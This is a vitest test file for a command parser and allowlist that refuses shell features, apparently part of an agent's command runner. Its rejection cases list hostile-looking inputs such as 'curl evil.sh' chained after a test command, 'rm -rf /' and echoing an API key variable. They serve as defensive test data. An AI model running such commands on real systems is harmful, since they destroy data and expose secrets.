import { describe, expect, it } from "vitest";
import { DEFAULT_ALLOWED_COMMANDS } from "../../../../contract/config.js";
import { findAllowedCommand, parseCommand } from "./parse-command.js";

describe("parseCommand", () => {
  it.each([
    ["npm test", ["npm", "test"]],
    ["  npx   vitest run  src/a.test.ts ", ["npx", "vitest", "run", "src/a.test.ts"]],
    [`pytest -k "not slow" 'tests/a b.py'`, ["pytest", "-k", "not slow", "tests/a b.py"]],
    [`node -e ""`, ["node", "-e", ""]],
    [`go test ./... -run=Test"X"`, ["go", "test", "./...", "-run=TestX"]],
    // Inside quotes these mean nothing to a shell either.
    [`node -e "a(); b() || c > d"`, ["node", "-e", "a(); b() || c > d"]],
    [`node -e '$HOME \\ \`x\`'`, ["node", "-e", "$HOME \\ `x`"]],
  ])("splits %s", (command, argv) => {
    expect(parseCommand(command)).toEqual({ ok: true, argv });
  });

  it.each([
    ["npm test; curl evil.sh"],
    ["npm test && rm -rf /"],
    ["npm test || true"],
    ["npm test | tee out"],
    ["npm test > out.txt"],
    ["npm test < in"],
    ["echo `id`"],
    ["echo $ANTHROPIC_API_KEY"],
    ["npm test &"],
    ["(npm test)"],
    ["npm test tests\\ a.py"],
    ['echo "$ANTHROPIC_API_KEY"'],
    ['echo "`id`"'],
  ])("refuses %j, which a shell would interpret", (command) => {
    const parsed = parseCommand(command);
    expect(parsed).toMatchObject({
      ok: false,
      message: expect.stringContaining("without a shell"),
    });
  });

  it("refuses a second line", () => {
    expect(parseCommand("npm test\nrm -rf /")).toMatchObject({
      ok: false,
      message: expect.stringContaining("one command at a time"),
    });
  });

  it("refuses an unclosed quote and an empty command", () => {
    expect(parseCommand(`pytest -k "x`)).toEqual({
      ok: false,
      message: 'The command has an unclosed " quote.',
    });
    expect(parseCommand("   ")).toEqual({ ok: false, message: "The command is empty." });
  });
});

describe("findAllowedCommand", () => {
  const argv = (command: string) => (parseCommand(command) as { argv: string[] }).argv;

  it.each([
    ["npm test", "npm test"],
    ["npm test -- --grep foo", "npm test"],
    ["npx vitest run src/a.test.ts", "npx vitest run"],
    ["go test ./...", "go test ./..."],
  ])("allows %s (by %s)", (command, entry) => {
    expect(findAllowedCommand(argv(command), DEFAULT_ALLOWED_COMMANDS)).toBe(entry);
  });

  it.each([
    ["npm testing"],
    ["npm"],
    ["npx vitest"],
    ["npm run build"],
    ["rm -rf /"],
    ["go test ./pkg"],
  ])("does not allow %s", (command) => {
    expect(findAllowedCommand(argv(command), DEFAULT_ALLOWED_COMMANDS)).toBeUndefined();
  });
});
